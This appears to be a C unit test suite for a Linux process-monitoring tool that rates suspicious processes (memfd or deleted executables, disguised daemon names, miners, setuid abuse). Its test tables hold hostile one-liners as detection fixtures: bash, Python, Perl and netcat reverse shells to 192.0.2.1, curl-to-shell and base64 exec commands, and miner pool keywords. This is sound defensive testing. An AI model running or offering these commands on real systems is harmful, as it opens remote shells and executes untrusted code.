/* SPDX-License-Identifier: MIT */
#include "checks-rig.h"

static const struct row rows[] = {
	{ "exe-unpackaged", LOW, { .exe = "/usr/bin/x", .unpackaged = true } },
	{ "exe-unpackaged", NONE, { .exe = "/usr/bin/x" } },
	{ "exe-unpackaged",
	  NONE,
	  { .exe = "/usr/local/bin/x", .unpackaged = true } },
	{ "raw-socket",
	  HIGH,
	  { .exe = "/usr/bin/x", .raw = "packet", .unpackaged = true } },
	{ "raw-socket",
	  HIGH,
	  { .exe = "/usr/bin/x", .raw = "packet", .elsewhere = true } },
	{ "exe-forged", HIGH, { .unmapped = 2 } },
	{ "exe-forged", LOW, { .unmapped = 1 } },
	{ "exe-forged", NONE, { .exe = "/usr/bin/x" } },
	{ "exe-elsewhere", LOW, { .elsewhere = true } },
	{ "exe-elsewhere", NONE, { .exe = "/usr/bin/x" } },
	{ "raw-socket", LOW, { .exe = "/usr/bin/x", .raw = "packet" } },
	{ "descriptor-hog", MEDIUM, { .files = 922, .limit = 1024 } },
	{ "descriptor-hog", NONE, { .files = 921, .limit = 1024 } },
	{ "descriptor-hog", NONE, { .files = 5000 } },
	{ "thread-hog", LOW, { .threads = 1001 } },
	{ "thread-hog", NONE, { .threads = 1000 } },
	{ "io-hog", LOW, { .read_rate = 60 << 20, .write_rate = 50 << 20 } },
	{ "io-hog", NONE, { .read_rate = 60 << 20, .write_rate = 30 << 20 } },
	{ "process-blocks", MEDIUM, { .blocks = 1 } },
	{ "process-blocks", HIGH, { .blocks = 2 } },
	{ "process-blocks", NONE, { .files = 1 } },
	{ "oom-candidate", LOW, { .oom = 1001 } },
	{ "oom-candidate", NONE, { .oom = 1000 } },
	{ "exe-deleted", MEDIUM, { DELETED("/usr/bin/x") } },
	{ "exe-deleted", HIGH, { DELETED("/var/tmp/x") } },
	{ "exe-deleted", NONE, { DELETED("/memfd:x") } },
	{ "exe-deleted", NONE, { .exe = "/opt/x (deleted)" } },
	{ "exe-memfd", HIGH, { DELETED("/memfd:x") } },
	{ "exe-memfd", INFO, { DELETED("/memfd:runc_cloned:/proc/self/exe") } },
	/* Of a file in a directory that is called so. */
	{ "exe-memfd", NONE, { .exe = "/memfd:x" } },
	{ "exe-in-temp-dir", MEDIUM, { .exe = "/tmp/x" } },
	{ "exe-in-temp-dir", MEDIUM, { .exe = "/run/user/1000/x" } },
	{ "exe-in-temp-dir", HIGH, { .exe = "/dev/shm/x" } },
	{ "exe-in-temp-dir", HIGH, { .exe = "/tmp/.X11-unix/x" } },
	{ "exe-in-temp-dir", MEDIUM, { .exe = "/tmp/build/.libs/x" } },
	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/.mount_GimpAB12/usr/gimp" } },
	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/_MEI4711/x" } },
	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/go-build1/b001/exe/x" } },
	{ "exe-in-temp-dir", NONE, { .exe = "/tmpfiles/x" } },
	{ "exe-in-temp-dir", NONE, { .exe = "/home/carl/tmp/x" } },
	{ "exe-hidden", MEDIUM, { .exe = "/usr/lib/.x/y" } },
	{ "exe-hidden", HIGH, { .exe = "/home/carl/.../y" } },
	{ "exe-hidden", HIGH, { .exe = "/usr/lib/.. /y" } },
	{ "exe-hidden", NONE, { .exe = "/home/carl/.cargo/bin/y" } },
	{ "exe-hidden", NONE, { .exe = "/opt/x.d/y" } },
	{ "exe-world-writable-dir", HIGH, { .dir_mode = 040777 } },
	{ "exe-world-writable-dir", NONE, { .dir_mode = 041777 } },
	{ "exe-world-writable-dir", NONE, { .dir_mode = 040775 } },
	{ "kernel-thread-name", HIGH, { .name = "kworker/0:1" } },
	{ "kernel-thread-name", HIGH, { .args = { "[kworker/u8:2]" } } },
	{ "kernel-thread-name",
	  HIGH,
	  { .name = "kdevtmpfsi", .no_exe = true, .args = { "./x" } } },
	{ "kernel-thread-name", MEDIUM, { .args = { "[httpd]" } } },
	{ "kernel-thread-name",
	  NONE,
	  { .name = "kworker/0:1", .kernel_thread = true } },
	/* A helper of the kernel before it runs its program. */
	{ "kernel-thread-name",
	  NONE,
	  { .name = "kworker/u4:3", .no_exe = true } },
	{ "kernel-thread-name", NONE, { .name = "kworker/0:1", .state = 'Z' } },
	{ "kernel-thread-name",
	  NONE,
	  { .name = "celery",
	    .args = { "[celeryd: a@b:MainProcess] -active- (worker)" } } },
	{ "kernel-thread-name",
	  NONE,
	  { .args = { "[celeryd: a@b:MainProcess]" } } },
	{ "kernel-thread-name", NONE, { .args = { "[", "-f", "x", "]" } } },
	{ "kernel-thread-name", NONE, { .name = "krfcommd-ui" } },
	{ "daemon-name",
	  HIGH,
	  { .exe = "/home/carl/x", .args = { "/usr/sbin/sshd", "-D" } } },
	{ "daemon-name",
	  HIGH,
	  { .exe = "/opt/x", .args = { "nginx: worker process" } } },
	{ "daemon-name",
	  HIGH,
	  { DELETED("/memfd:x"), .args = { "sshd: root [priv]" } } },
	{ "daemon-name",
	  MEDIUM,
	  { .exe = "/usr/bin/python3.11", .args = { "sshd" } } },
	{ "daemon-name",
	  HIGH,
	  { .name = "cron", .exe = "/srv/x", .args = { "./x" } } },
	{ "daemon-name",
	  NONE,
	  { .name = "sshd",
	    .exe = "/usr/sbin/sshd",
	    .args = { "sshd: root@pts/0" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/lib/openssh/sshd-session",
	    .args = { "sshd: carl [priv]" } } },
	{ "daemon-name",
	  NONE,
	  { .name = "systemd",
	    .exe = "/usr/lib/systemd/systemd",
	    .args = { "/sbin/init", "splash" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/bin/udevadm",
	    .args = { "/lib/systemd/systemd-udevd" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/sbin/mariadbd", .args = { "/usr/sbin/mysqld" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/lib/postgresql/15/bin/postgres",
	    .args = { "postgres: 15/main: checkpointer " } } },
	{ "daemon-name",
	  NONE,
	  { .name = "crond",
	    .exe = "/bin/busybox",
	    .args = { "crond", "-f" } } },
	/* A script of that name, and a shell at login. */
	{ "daemon-name",
	  NONE,
	  { .name = "cron",
	    .exe = "/usr/bin/dash",
	    .args = { "/bin/sh", "/etc/init.d/cron" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/bin/bash", .args = { "-bash" } } },
	{ "daemon-name", NONE, { .name = "sshd", .no_exe = true } },
	{ "args-wiped", MEDIUM, { .wiped = true } },
	{ "args-wiped", NONE, { .args = { "sshd: carl" } } },
	{ "args-wiped", NONE, { .wiped = true, .no_exe = true } },
	{ "miner",
	  HIGH,
	  { .args = { "x", "-o", "stratum+tcp://192.0.2.1:3333", "-a",
		      "rx/0" } } },
	{ "miner",
	  HIGH,
	  { .args = { "x", "-o", "stratum+ssl://192.0.2.1:443" },
	    .cpu = 350 } },
	{ "miner", HIGH, { .exe = "/opt/xmrig", .cpu_lifetime = 190 } },
	{ "miner",
	  HIGH,
	  { .args = { "x", "pool.minexmr.com:4444", "--donate-level=1" } } },
	{ "miner", NONE, { .cpu = 400 } },
	{ "miner",
	  NONE,
	  { .args = { "grep", "-r", "stratum+tcp://pool.minexmr.com:80" } } },
	{ "miner", NONE, { .exe = "/opt/xmrig", .cpu = 2 } },
	{ "setuid-root", HIGH, { .uid = 1000, .exe = "/usr/bin/bash" } },
	{ "setuid-root", HIGH, { .uid = 1000, .exe = "/home/carl/su" } },
	{ "setuid-root", LOW, { .uid = 1000, .exe = "/usr/bin/other" } },
	{ "setuid-root", NONE, { .uid = 1000, .exe = "/usr/bin/su" } },
	{ "setuid-root",
	  NONE,
	  { .uid = 1000,
	    .exe = "/usr/lib/dbus-1.0/"
		   "dbus-daemon-launch-"
		   "helper" } },
	{ "setuid-root",
	  NONE,
	  { .uid = 1000, .exe = "/opt/google/chrome/chrome-sandbox" } },
	{ "setuid-root", NONE, { .uid = 1000, .euid = 33 } },
	{ "setuid-root", NONE, { .exe = "/usr/bin/bash" } },
};

START_TEST(a_check_finds_what_it_is_for_and_not_its_neighbour)
{
	judge(&rows[_i]);
}
END_TEST

/* What only miners are given; a program of theirs is the second sign. */
static const char *const miner_words[] = {
	"stratum+tcp:",	  "stratum+ssl:",
	"stratum+tls:",	  "stratum2+tcp:",
	"--donate-level", "--randomx-",
	"--nicehash",	  "--cpu-max-threads-hint",
	"randomx",	  "rx/0",
	"cryptonight",	  "--coin=monero",
	"--coin=XMR",	  "minexmr.",
	"supportxmr.",	  "nanopool.org",
	"2miners.com",	  "moneroocean.",
	"hashvault.",	  "nicehash.com",
	"c3pool.",	  "unmineable.",
	"herominers.",	  "minergate.",
	"xmrpool.",
};

START_TEST(a_word_of_miners_is_found_wherever_it_stands)
{
	const char *word = miner_words[_i];
	char text[80];
	struct row row = { "miner", HIGH, { .exe = "/opt/xmrig" } };

	row.p.args[0] = "x";
	row.p.args[1] = text;
	for (int i = 0; i < 3; i++) {
		snprintf(text, sizeof(text), "%s%s%s", i > 0 ? "mmx" : "", word,
			 i > 1 ? "m" : "");
		judge(&row);
	}
	/* Less than a word is none, unless it has another in it. */
	snprintf(text, sizeof(text), "%.*s", (int)strlen(word) - 1, word);
	row.severity = strstr(text, "randomx") ? HIGH : NONE;
	judge(&row);
}
END_TEST

/* Of a shell or an interpreter, behind -c. */
static const struct {
	const char *exe, *code;
	int severity;
} codes[] = {
	{ "/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1", HIGH },
	{ "/bin/bash",
	  "exec 5<>/dev/tcp/192.0.2.1/1; cat <&5 | while read l; do $l; done",
	  HIGH },
	{ "/bin/sh",
	  "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | "
	  "nc 192.0.2.1 9 > /tmp/f",
	  HIGH },
	{ "/usr/bin/python3.11",
	  "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',1));"
	  "os.dup2(s.fileno(),0)",
	  HIGH },
	{ "/usr/bin/perl",
	  "use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');"
	  "exec('sh')",
	  HIGH },
	{ "/bin/sh", "echo aWQK | base64 -d | sh", MEDIUM },
	{ "/bin/sh", "curl -s http://192.0.2.1/x | bash", LOW },
	{ "/bin/sh", "wget -qO- http://192.0.2.1/x |sh", LOW },
	{ "/usr/bin/python3", "import base64;exec(base64.b64decode('eA=='))",
	  MEDIUM },
	/* What tools and health checks send. */
	{ "/bin/sh", "make -j4 check", NONE },
	{ "/bin/sh", "set -e; cd /src && ./configure | tee log", NONE },
	{ "/bin/bash", "</dev/tcp/db/5432", NONE },
	{ "/bin/bash",
	  "exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET / "
	  "HTTP/1.1\\r\\n' >&3; cat <&3 | grep -q UP",
	  NONE },
	{ "/bin/sh", "echo aGk= | base64 -d > greeting", NONE },
	{ "/bin/sh", "curl -s https://example.org/x | jq .", NONE },
	{ "/bin/sh", "curl -s https://example.org/x | shasum", NONE },
	{ "/usr/bin/python3", "import socket; print(socket.gethostname())",
	  NONE },
	{ "/usr/bin/less", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1", NONE },
};

START_TEST(code_among_arguments_is_told_by_what_it_is_for)
{
	const struct row row = {
		"inline-payload",
		codes[_i].severity,
		{ .exe = codes[_i].exe, .args = { "x", "-c", codes[_i].code } },
	};

	judge(&row);
}
END_TEST

static const struct {
	const char *args[4];
	int severity;
} joined[] = {
	{ { "nc", "-e", "/bin/sh", "192.0.2.1" }, HIGH },
	{ { "socat", "TCP:192.0.2.1:443", "EXEC:/bin/bash,pty" }, HIGH },
	{ { "nc", "-l", "-p", "9" }, NONE },
	{ { "socat", "TCP-LISTEN:80,fork", "UNIX:/run/web" }, NONE },
};

START_TEST(code_is_found_behind_other_options_that_may_take_some)
{
	const struct row row = {
		"inline-payload",
		HIGH,
		{ .exe = "/bin/sh",
		  .args = { "sh", "-e", "-c",
			    "bash -i >& /dev/tcp/192.0.2.1/443 0>&1" } },
	};

	judge(&row);
}
END_TEST

START_TEST(a_tool_for_connections_is_told_when_it_joins_a_shell)
{
	struct row row = { "inline-payload",
			   joined[_i].severity,
			   { .exe = "/usr/bin/nc.openbsd" } };

	memcpy(row.p.args, joined[_i].args, sizeof(joined[_i].args));
	judge(&row);
}
END_TEST

static const struct {
	const char *path;
	unsigned with, without;
} programs[] = {
	{ "/usr/bin/python3.11", SMI_PROGRAM_SCRIPTS, SMI_PROGRAM_SHELL },
	{ "/bin/bash", SMI_PROGRAM_SHELL | SMI_PROGRAM_SCRIPTS, 0 },
	{ "/bin/dash (deleted)", SMI_PROGRAM_SHELL, 0 },
	{ "sh", SMI_PROGRAM_SHELL, 0 },
	{ "/usr/sbin/php-fpm8.2", SMI_PROGRAM_WEB, SMI_PROGRAM_SCRIPTS },
	{ "nc.openbsd", SMI_PROGRAM_NETCAT, 0 },
	{ "/usr/bin/qemu-system-x86_64", SMI_PROGRAM_JIT, 0 },
	{ "/bin/bashful", 0, SMI_PROGRAM_SHELL },
	{ "/bin/bash/x", 0, SMI_PROGRAM_SHELL },
	{ "123", 0, ~0U },
	{ "", 0, ~0U },
};

START_TEST(a_program_is_classed_by_the_name_of_its_file)
{
	unsigned class = smi_program_class(smi_span_str(programs[_i].path));

	ck_assert_uint_eq(class & programs[_i].with, programs[_i].with);
	ck_assert_uint_eq(class & programs[_i].without, 0);
}
END_TEST

static const struct {
	const char *program;
	const char *args[5];
	const char *code, *script;
} given[] = {
	/* What sh(1), bash(1), python(1) and perlrun(1) say of themselves. */
	{ "/bin/sh", { "sh" }, NULL, NULL },
	{ "/bin/bash", { "-bash", "-il" }, NULL, NULL },
	{ "/bin/bash", { "bash", "--norc", "-i" }, NULL, NULL },
	{ "/bin/bash", { "bash", "--rcfile", "/x", "-i" }, NULL, NULL },
	{ "/bin/sh", { "sh", "-s", "argument" }, NULL, NULL },
	{ "/bin/sh", { "sh", "-c", "id" }, "id", NULL },
	{ "/bin/sh", { "sh", "-lc", "id" }, "id", NULL },
	{ "/bin/sh", { "sh", "-ce", "id" }, "id", NULL },
	{ "/bin/sh", { "sh", "-c" }, "", NULL },
	{ "/bin/sh", { "sh", "/x", "-c", "id" }, NULL, "/x" },
	{ "/bin/sh", { "sh", "-e", "/x" }, NULL, "/x" },
	{ "/bin/bash", { "bash", "-eo", "pipefail", "/x" }, NULL, "/x" },
	{ "/bin/bash", { "bash", "+o", "history", "/x" }, NULL, "/x" },
	{ "/bin/bash", { "bash", "--norc", "/x" }, NULL, "/x" },
	{ "/bin/bash", { "bash", "--", "-x" }, NULL, "-x" },
	{ "/bin/bash", { "bash", "--" }, NULL, NULL },
	{ "python3.11", { "python3", "-E", "/x" }, NULL, "/x" },
	{ "python3.11", { "python3", "-Ic", "pass" }, "pass", NULL },
	{ "python3.11", { "python3", "-W", "error", "/x" }, NULL, "/x" },
	{ "python3.11", { "python3", "-m", "http.server" }, NULL, NULL },
	{ "python3.11", { "python3", "-", "/x" }, NULL, NULL },
	{ "perl", { "perl", "-ne", "print" }, "print", NULL },
	{ "perl", { "perl", "-w", "/x", "-e", "1" }, NULL, "/x" },
	{ "node", { "node", "--eval", "1" }, "1", NULL },
};

START_TEST(code_and_script_are_told_from_options_and_their_values)
{
	struct smi_strs list = { 0, given[_i].args };
	struct smi_shell_args out;

	while (list.n < SMI_COUNT(given[0].args) && list.v[list.n])
		list.n++;
	out = smi_shell_args_read(smi_span_str(given[_i].program), list);
	ck_assert_pstr_eq(out.code, given[_i].code);
	ck_assert_pstr_eq(out.script, given[_i].script);
}
END_TEST

/* Also those that nothing here makes happen. */
START_TEST(every_check_has_all_that_a_finding_tells)
{
	const struct smi_check *c;
	size_t theme = 0, at = 0;

	while ((c = smi_check_next(&theme, &at))) {
		ck_assert(c->title[0] && c->why[0] && c->next_step[0]);
		ck_assert_uint_gt(c->nattack, 0);
		ck_assert_uint_gt(c->nfields, 0);
		ck_assert_ptr_nonnull(c->kind);
	}
	ck_assert_uint_gt(theme, 0);
}
END_TEST

START_TEST(the_manual_names_each_check_with_its_severity)
{
	static char text[1 << 16];
	const char *srcdir = getenv("srcdir");
	char path[4096], wanted[128];
	const struct smi_check *c;
	size_t theme = 0, at = 0;
	FILE *f;

	snprintf(path, sizeof(path), "%s/man/sysmon-checks.7",
		 srcdir ? srcdir : ".");
	f = fopen(path, "r");
	ck_assert_ptr_nonnull(f);
	text[fread(text, 1, sizeof(text) - 1, f)] = '\0';
	fclose(f);
	while ((c = smi_check_next(&theme, &at))) {
		snprintf(wanted, sizeof(wanted), ".It Cm %s Pq %s ;", c->id,
			 sm_severity_name(c->severity));
		ck_assert_msg(strstr(text, wanted) != NULL, "no \"%s\"",
			      wanted);
	}
}
END_TEST

int main(void)
{
	Suite *s = suite_create("checks");
	TCase *tc = tcase_create("checks");

	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_loop_test(tc,
			    a_check_finds_what_it_is_for_and_not_its_neighbour,
			    0, SMI_COUNT(rows));
	tcase_add_loop_test(tc, a_word_of_miners_is_found_wherever_it_stands, 0,
			    SMI_COUNT(miner_words));
	tcase_add_loop_test(tc, code_among_arguments_is_told_by_what_it_is_for,
			    0, SMI_COUNT(codes));
	tcase_add_test(tc,
		       code_is_found_behind_other_options_that_may_take_some);
	tcase_add_test(tc,
		       code_is_found_behind_other_options_that_may_take_some);
	tcase_add_loop_test(
		tc, a_tool_for_connections_is_told_when_it_joins_a_shell, 0,
		SMI_COUNT(joined));
	tcase_add_loop_test(tc, a_program_is_classed_by_the_name_of_its_file, 0,
			    SMI_COUNT(programs));
	tcase_add_loop_test(
		tc, code_and_script_are_told_from_options_and_their_values, 0,
		SMI_COUNT(given));
	tcase_add_test(tc, every_check_has_all_that_a_finding_tells);
	tcase_add_test(tc, the_manual_names_each_check_with_its_severity);
	suite_add_tcase(s, tc);
	return suite_run(s);
}
